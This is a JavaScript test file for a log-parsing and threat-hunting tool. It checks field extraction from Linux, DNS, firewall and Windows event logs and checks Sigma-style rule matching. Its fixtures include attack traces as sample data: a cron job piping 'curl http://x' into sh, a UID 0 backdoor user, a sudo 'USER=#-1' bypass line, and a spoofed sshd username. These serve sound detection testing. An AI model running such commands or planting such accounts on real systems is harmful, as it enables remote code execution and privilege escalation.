// SPDX-License-Identifier: Apache-2.0
// readers.test.mjs: what the readers make of messages of servers and firewalls, of exports in XML, of
// archives, and of what lies beside logs.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { BUILD, KHIEN, folder, khien } from './lib.mjs';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const SHARED = process.env.KHIEN_SHARED ?? resolve(ROOT, '../shared');
const env = { ...process.env, KHIEN_LANG: 'en', XDG_CACHE_HOME: folder() };
const run = (...args) => khien(args, { env });

function put(name, data, dir = folder()) {
  const path = join(dir, name);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, data);
  return path;
}
const parse = (text) => text.split('\n').filter(Boolean).map((l) => JSON.parse(l));
const dump = (name, data) => parse(run('logs', 'dump', put(name, data)).out);
const fields = (line) => {
  const f = dump('x.log', line + '\n')[0].fields;
  for (const k of ['hostname', 'pid', 'message']) delete f[k];
  return f;
};
function hunt(path, rules, ...more) {
  const out = join(folder(), 'out.json');
  const r = run('hunt', ...[path].flat(), ...[rules].flat().flatMap((d) => ['--rules', d]), '--json', out, ...more);
  return { ...r, found: existsSync(out) ? parse(readFileSync(out, 'utf8')) : [] };
}

// ---- messages -------------------------------------------------------------------------------

const P = 'Nov 20 08:12:00 web01 ';
const MESSAGES = [
  ['sshd[9]: Failed password for root from 198.51.100.7 port 50514 ssh2',
    { program: 'sshd', action: 'failed', auth_method: 'password', user: 'root', src_ip: '198.51.100.7', src_port: '50514' }],
  // A name that somebody chose to look like an address is not taken for one.
  ['sshd[9]: Failed password for invalid user a from 10.0.0.1 port 1 ssh2 from 198.51.100.7 port 5 ssh2',
    { program: 'sshd', action: 'failed', auth_method: 'password', user: 'a from 10.0.0.1 port 1 ssh2', src_ip: '198.51.100.7', src_port: '5' }],
  ['sshd-session[9]: Accepted publickey for web from 2001:db8::7 port 5 ssh2: ED25519 SHA256:x',
    { program: 'sshd-session', action: 'accepted', auth_method: 'publickey', user: 'web', src_ip: '2001:db8::7', src_port: '5' }],
  ['sshd[9]: Connection closed by authenticating user root 198.51.100.7 port 5 [preauth]',
    { program: 'sshd', user: 'root', src_ip: '198.51.100.7', src_port: '5' }],
  ['sshd[9]: Connection from 198.51.100.8 port 33 on 10.1.1.1 port 22',
    { program: 'sshd', src_ip: '198.51.100.8', src_port: '33' }],
  ['sshd[9]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.9  user=root',
    { program: 'sshd', action: 'failed', uid: '0', euid: '0', tty: 'ssh', rhost: '198.51.100.9', src_ip: '198.51.100.9', user: 'root' }],
  ['sshd[9]: Server listening on 0.0.0.0 port 22.', { program: 'sshd' }],
  ['sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/bin/sh -c a ; b',
    { program: 'sudo', user: 'alice', TTY: 'pts/0', PWD: '/home/alice', USER: '#-1', COMMAND: '/bin/sh -c a ; b' }],
  ['sudo: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)', { program: 'sudo', user: 'root' }],
  ['su[9]: FAILED SU (to root) alice on pts/0', { program: 'su', action: 'failed', user: 'alice', target_user: 'root' }],
  ['CRON[9]: (root) CMD (curl http://x | sh)', { program: 'CRON', user: 'root', action: 'CMD', command: 'curl http://x | sh' }],
  ['useradd[9]: new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/bash',
    { program: 'useradd', user: 'eve', name: 'eve', UID: '0', GID: '0', home: '/root', shell: '/bin/bash' }],
  ['kernel: [ 12.345] [UFW BLOCK] IN=eth0 OUT= MAC=00:11 SRC=203.0.113.9 DST=10.0.0.5 LEN=40 PROTO=TCP SPT=4444 DPT=3389 SYN URGP=0',
    { program: 'kernel', log_prefix: '[UFW BLOCK]', action: 'block', IN: 'eth0', MAC: '00:11', SRC: '203.0.113.9', DST: '10.0.0.5', LEN: '40', PROTO: 'TCP', SPT: '4444', DPT: '3389', URGP: '0' }],
  ['kernel: eth0: link is up, IN=0', { program: 'kernel' }],
];
const ASKED = [
  ['named[9]: client @0x7f01 10.0.0.5#53412 (a.xau.example): query: a.xau.example IN A +E(0)K (10.0.0.1)',
    { program: 'named', src_ip: '10.0.0.5', src_port: '53412', query: 'a.xau.example', record_type: 'A' }],
  ['named[9]: queries: info: client 2001:db8::5#53412: query: b.xau.example IN TXT +', { program: 'named', src_ip: '2001:db8::5', src_port: '53412', query: 'b.xau.example', record_type: 'TXT' }],
  ['named[9]: client 10.0.0.5#53412 (c.xau.example): query: ', { program: 'named', src_ip: '10.0.0.5', src_port: '53412' }],
  ['dnsmasq[9]: query[AAAA] d.xau.example from 10.0.0.5', { program: 'dnsmasq', src_ip: '10.0.0.5', query: 'd.xau.example', record_type: 'AAAA' }],
  ['dnsmasq[9]: 7 10.0.0.5/40000 reply d.xau.example is 203.0.113.7', { program: 'dnsmasq', query: 'd.xau.example', answer: '203.0.113.7' }],
  ['dnsmasq[9]: query[A]', { program: 'dnsmasq', record_type: 'A' }],
  ['unbound[9]: [9:0] info: 10.0.0.5 e.xau.example. A IN', { program: 'unbound', src_ip: '10.0.0.5', query: 'e.xau.example', record_type: 'A' }],
  ['unbound[9]: [9:0] info: start of service (unbound 1.17.1).', { program: 'unbound' }],
];

test('messages of sshd, sudo, su, cron, useradd, PAM and netfilter and DNS servers give their fields', () => {
  for (const [line, want] of [...MESSAGES, ...ASKED]) assert.deepEqual(fields(P + line), want, line);
});

test('rules ask for those fields, through pipelines', () => {
  const rule = (n, source, detection) => `title: r${n}\nid: r${n}\nlogsource: {${source}}\ndetection: {s: {${detection}}, condition: s}\nlevel: low\n`;
  const rules = folder();
  put('1.yml', rule(1, 'product: linux, service: sshd', "src_ip|cidr: 198.51.100.0/24, user: root, action: failed"), rules);
  put('2.yml', rule(2, 'product: linux, service: sudo', "USER: '#-*'"), rules);
  put('3.yml', rule(3, 'category: firewall', 'dst_port: 3389, src_ip: 203.0.113.9, action: block'), rules);
  put('4.yml', rule(4, 'product: linux, service: cron', "user: root, command|contains: curl"), rules);
  put('5.yml', `title: many\nid: r5\ncorrelation: {type: value_count, rules: [r6], group-by: [src_ip], timespan: 10m, condition: {field: user, gte: 3}}\nlevel: high\n---\n`
    + rule(6, 'product: linux, service: sshd', 'action: failed').replace('title: r6', 'title: r6\nname: r6'), rules);
  const guess = ['a', 'b', 'c'].map((u) => `sshd[9]: Failed password for invalid user ${u} from 192.0.2.66 port 5 ssh2`);
  const r = hunt(put('auth.log', [...MESSAGES.map((m) => m[0]), ...guess].map((l) => P + l).join('\n') + '\n'), rules);
  const at = (id) => r.found.filter((d) => d.rule_id === id).map((d) => d.record);
  assert.deepEqual(at('r1'), [1, 6]);
  assert.deepEqual(at('r2'), [8]);
  assert.deepEqual(at('r3'), [13]);
  assert.deepEqual(at('r4'), [11]);
  const many = r.found.find((d) => d.rule_id === 'r5');
  assert.equal(many.count, 3);
  assert.equal(many.file, 'auth.log');
  assert.deepEqual(many.events.map((e) => e.record), [15, 16, 17]);
});

test('what DNS servers were asked and what a Squid fetched reach the rules', () => {
  const rules = folder();
  const rule = (n, category, detection) => put(`${n}.yml`, `title: r${n}\nid: r${n}\nlogsource: {category: ${category}}\ndetection: {s: {${detection}}, condition: s}\nlevel: low\n`, rules);
  rule(1, 'dns', 'query|endswith: .xau.example, record_type: [A, AAAA, TXT]');
  rule(2, 'proxy', "c-uri-extension: exe, cs-host|endswith: .ddns.example, c-uri|contains: '?q=', sc-status: 200");
  rule(3, 'webserver', 'cs-method: GET');
  const asked = hunt(put('dns.log', ASKED.map((m) => P + m[0]).join('\n') + '\n'), rules);
  assert.deepEqual(asked.found.map((d) => `${d.rule_id} ${d.record}`), ['r1 1', 'r1 2', 'r1 4', 'r1 7']);
  const fetched = hunt(put('access.log', '1763796605.123    180 10.0.0.1 TCP_MISS/200 411 GET http://a.ddns.example/e.exe?q=1 an HIER_DIRECT/203.0.113.9 text/html\n'), rules);
  assert.deepEqual(fetched.found.map((d) => `${d.rule_id} ${d.record} ${d.time}`), ['r2 1 2025-11-22T07:30:05.123Z']);
});

// ---- XML --------------------------------------------------------------------------------------

const event = (id, data, { channel = 'Security', record = 7, more = '' } = {}) => `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/><EventID Qualifiers='16'>${id}</EventID><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='2026-11-20T01:12:00.1234567Z'/><EventRecordID>${record}</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='8'/><Channel>${channel}</Channel><Computer>PC-07</Computer><Security/></System><EventData>${data}</EventData>${more}</Event>`;
const DATA = `<Data Name='NewProcessName'>C:\\x\\vssadmin.exe</Data>\r\n<Data Name='Command Line'>vssadmin &lt;a&gt; &amp; &#66;&#x1EA1;n</Data><Data Name='Empty'></Data><Data Name='None'/><Data>one</Data><Data><![CDATA[<two>]]></Data>`;

test('exports in XML give the fields of the event log', () => {
  const want = {
    Provider_Name: 'Microsoft-Windows-Security-Auditing', Provider_Guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}',
    EventID_Qualifiers: 16, EventID: 4688, Keywords: '0x8020000000000000', TimeCreated_SystemTime: '2026-11-20T01:12:00.1234567Z',
    EventRecordID: 7, Execution_ProcessID: 4, Execution_ThreadID: 8, Channel: 'Security', Computer: 'PC-07',
    NewProcessName: 'C:\\x\\vssadmin.exe', CommandLine: 'vssadmin <a> & Bạn', Empty: '', None: '', Data: ['one', '<two>'],
  };
  const one = event(4688, DATA, { more: '<RenderingInfo Culture="vi-VN"><Message>no field</Message></RenderingInfo>' });
  const cases = {
    'Event Viewer': `\ufeff<?xml version="1.0" encoding="utf-8" standalone="yes"?>\r\n<!-- x -->\r\n<Events>${one}${one}</Events>`,
    'wevtutil, one a line': `${one}\n${one}\n`,
    'UTF-16': Buffer.from(`\ufeff<?xml version="1.0" encoding="utf-16"?>\n<Events>${one}\n${one}</Events>`, 'utf16le'),
  };
  for (const [name, text] of Object.entries(cases)) {
    const d = dump('x.xml', text);
    assert.equal(d.length, 2, name);
    assert.deepEqual(d[0].fields, want, name);
    assert.equal(d[0].time, '2026-11-20T01:12:00.1234567Z');
    assert.equal(d[0].format, 'xml');
  }
  const user = dump('u.xml', event(70, '').replace('<EventData></EventData>', '<UserData><CertNotification xmlns="x"><Certificate fileRef="A.cer"/><Result value="0">ok</Result></CertNotification></UserData>'));
  assert.deepEqual([user[0].fields.Certificate_fileRef, user[0].fields.Result_value, user[0].fields.Result], ['A.cer', 0, 'ok'].map((v) => (v === 0 ? '0' : v)));
});

test('rules find events in XML; what is damaged is told and the rest is read', () => {
  const rules = put('r.yml', "title: x\nid: x1\nlogsource: {product: windows, category: process_creation}\ndetection: {s: {Image|endswith: '\\vssadmin.exe'}, condition: s}\nlevel: high\n");
  const text = `<Events>\n${event(4688, DATA)}\n<Event><System><EventID>1</Oops></System></Event>\n${event(4688, DATA)}\n${event(4688, DATA).slice(0, -20)}`;
  const r = hunt(put('x.xml', text), rules);
  assert.deepEqual(r.found.map((d) => [d.record, d.host, d.time]), [[2, 'PC-07', '2026-11-20T01:12:00.1234567Z'], [5, 'PC-07', '2026-11-20T01:12:00.1234567Z']]);
  assert.match(r.out, /2 parts/);
  // Across pieces, for one thread and for two.
  const big = put('big.xml', '<Events>' + Array.from({ length: 4000 }, (_, i) => event(i % 100 === 0 ? 4688 : 4689, DATA, { record: i })).join('\n') + '</Events>');
  const [one, two] = ['1', '2'].map((n) => hunt(big, rules, '--threads', n).found);
  assert.equal(one.length, 40);
  assert.deepEqual(one, two);
});

test('Sysmon for Linux writes events into syslog', () => {
  const xml = event(1, '<Data Name="Image">/usr/bin/crontab</Data><Data Name="CommandLine">crontab -r &amp; x</Data><Data Name="User">www</Data>', { channel: 'Linux-Sysmon/Operational' });
  const rules = put('r.yml', "title: x\nid: x1\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {Image|endswith: /crontab, CommandLine|contains: '-r & x'}, condition: s}\nlevel: high\n");
  const r = hunt(put('syslog', `${P}sysmon: ${xml}\n${P}sysmon[7]: ${xml}\n${P}sysmon: ${xml.slice(0, 300)}\n${P}other: x\n`), rules);
  assert.deepEqual(r.found.map((d) => [d.record, d.time]), [[1, '2026-11-20T01:12:00.1234567Z'], [2, '2026-11-20T01:12:00.1234567Z']]);
});

test('NXLog calls the provider SourceName', () => {
  const line = { EventID: 104, Channel: 'System', SourceName: 'Microsoft-Windows-Eventlog', Hostname: 'PC-07' };
  assert.deepEqual(dump('a.json', JSON.stringify(line) + '\n')[0].fields, { ...line, Provider_Name: 'Microsoft-Windows-Eventlog' });
  assert.equal(dump('b.json', JSON.stringify({ ...line, Provider_Name: 'own' }) + '\n')[0].fields.Provider_Name, 'own');
  assert.equal(dump('c.json', JSON.stringify({ a: { SourceName: 'x' }, EventID: 1 }) + '\n')[0].fields.Provider_Name, undefined);
});

// ---- archives, and what lies beside ---------------------------------------------------------------

const LOG = `${P}sshd[9]: Failed password for root from 198.51.100.7 port 5 ssh2\n`;
const RULE = () => put('r.yml', "title: x\nid: x1\nlogsource: {product: linux, service: sshd}\ndetection: {s: {action: failed}, condition: s}\nlevel: low\n");

function tarOf(dir, flags) {
  const out = join(folder(), 'logs.tar');
  assert.equal(spawnSync('tar', [`-c${flags}f`, out, '-C', dir, '.']).status, 0);
  return readFileSync(out);
}

test('members of tar archives are logs of their own, packed or not', () => {
  const src = folder(), dir = folder();
  put('var/log/auth.log', LOG.repeat(3), src);
  put('var/log/auth.log.1.gz', gzipSync(LOG), src);
  put('var/empty', '', src);
  put('var/' + 'long'.repeat(40) + '/auth.log', LOG, src);
  put('plain.tar', tarOf(src, ''), dir);
  put('packed.tgz', tarOf(src, 'z'), dir);
  put('cut.tar', tarOf(src, '').subarray(0, 2700), dir);
  const r = hunt(dir, RULE());
  const counts = {};
  for (const d of r.found) counts[d.file] = (counts[d.file] ?? 0) + 1;
  const deep = 'var/' + 'long'.repeat(40) + '/auth.log';
  for (const a of ['packed.tgz', 'plain.tar'])
    assert.deepEqual([counts[`${a}/var/log/auth.log`], counts[`${a}/var/log/auth.log.1.gz`], counts[`${a}/${deep}`]], [3, 1, 1], a);
  assert.match(r.out, /1 tar archives are damaged.*\n?.*cut\.tar/);
  assert.deepEqual(hunt(dir, RULE(), '--threads', '1').found, hunt(dir, RULE(), '--threads', '2').found);
  // Named itself, it is below its own name.
  assert.ok(hunt(join(dir, 'packed.tgz'), RULE()).found.some((d) => d.file === 'packed.tgz/var/log/auth.log'));
});

test('copies and descriptions beside logs are no logs, unless they are named', () => {
  const dir = folder(), json = '{"EventID":4625,"Channel":"Security","Computer":"PC"}\n';
  const rules = put('r.yml', 'title: x\nid: x1\nlogsource: {product: windows, service: security}\ndetection: {s: {EventID: 4625}, condition: s}\nlevel: low\n');
  put('a/x.evtx', Buffer.concat([Buffer.from('ElfFile\0'), Buffer.alloc(4088)]), dir);
  put('a/x.json', json, dir);
  put('a/x.jsonl', json, dir);
  put('a/other.json', json, dir);
  put('a/info.yml', '# what this is\n\nid: 1\nEventID: 4625\n', dir);
  put('a/rule.yaml', '---\ntitle: x\n', dir);
  put('a/log.yml', json, dir);
  const r = hunt(dir, rules);
  assert.deepEqual(r.found.map((d) => d.file), ['a/log.yml', 'a/other.json']);
  assert.match(r.out.replace(/\n\s+/g, ' '), /4 files beside logs .*\(a\/info\.yml, a\/rule\.yaml, a\/x\.json, a\/x\.jsonl\)/);
  assert.deepEqual(hunt(join(dir, 'a/x.json'), rules).found.map((d) => d.file), ['x.json']);
});

// ---- the contract of --json -------------------------------------------------------------------

test('file is the path below the PATH given, for files, folders, and several of them', () => {
  const dir = folder();
  put('a/b/auth.log', LOG, dir);
  put('top.log', LOG, dir);
  const rules = RULE(), files = (...paths) => hunt(paths, rules).found.map((d) => d.file);
  assert.deepEqual(files(dir), ['a/b/auth.log', 'top.log']);
  assert.deepEqual(files(dir + '/'), ['a/b/auth.log', 'top.log']);
  assert.deepEqual(files(join(dir, 'a')), ['b/auth.log']);
  assert.deepEqual(files(join(dir, 'a/b/auth.log')), ['auth.log']);
  assert.deepEqual(files(join(dir, 'a'), join(dir, 'top.log')), ['b/auth.log', 'top.log']);
  const d = hunt(dir, rules).found[0];
  assert.deepEqual(Object.keys(d), ['rule_id', 'title', 'level', 'tags', 'file', 'record', 'time', 'host', 'matched']);
  assert.equal(d.record, 1);
  assert.equal(d.host, 'web01');
  assert.deepEqual(d.matched, [{ field: 'action', value: 'failed', pattern: 'action: failed' }]);
});

// ---- shared data ---------------------------------------------------------------------------------

const events = join(SHARED, 'data/json/windows-events.tar.zst');
const sanitized = /-san$/.test(BUILD);

test('a gigabyte of Windows events gives what the list says, and what was reviewed', { skip: !existsSync(events) || sanitized }, () => {
  const r = hunt(events, ['rules', 'rules-emerging-threats', 'rules-threat-hunting'].map((d) => join(SHARED, 'data/sigma', d)));
  const tsv = (path) => readFileSync(path, 'utf8').split('\n').filter((l) => l && !l.startsWith('#')).map((l) => l.split('\t'));
  const want = new Set(tsv(join(SHARED, 'data/golden/windows-events.tsv')).map((l) => l.join('\t')));
  for (const [set, file, record, rule] of tsv(join(ROOT, 'test/data/detect-reviewed.tsv'))) if (set === 'windows-events') want.add([file, record, rule].join('\t'));
  const got = new Set(r.found.map((d) => [d.file.split('/').pop(), d.record, d.rule_id].join('\t')));
  assert.deepEqual([...got].filter((k) => !want.has(k)), []);
  assert.deepEqual([...want].filter((k) => !got.has(k)), []);
  assert.ok(want.size > 3800);
});

const sample = join(SHARED, 'data/evtx/attack/DeepBlueCLI/new-user-security.evtx');

test('a changed block of an EVTX file is told, and its records are read', { skip: !existsSync(sample) }, () => {
  const rules = join(SHARED, 'data/sigma/rules/windows/builtin/security'), whole = readFileSync(sample), changed = Buffer.from(whole);
  const at = changed.indexOf(Buffer.from('IE8Win7', 'utf16le'), 4096 + 512);
  assert.ok(at > 0);
  changed.write('IE9Win7', at, 'utf16le');
  const before = hunt(put('a.evtx', whole), rules), after = hunt(put('a.evtx', changed), rules);
  assert.equal(after.found.length, before.found.length);
  assert.ok(before.found.length > 0);
  assert.doesNotMatch(before.out, /checksums/);
  assert.match(after.out.replace(/\n\s+/g, ' '), /1 blocks of 1 EVTX files have checksums that do not fit.*a\.evtx/);
  const stat = run('logs', 'stat', put('a.evtx', changed), '--json').json;
  assert.deepEqual(stat.skipped.map((s) => [s.error, s.parts]), [['ingest.evtx.checksum', 1]]);
  assert.equal(stat.skipped_bytes, 0);
});
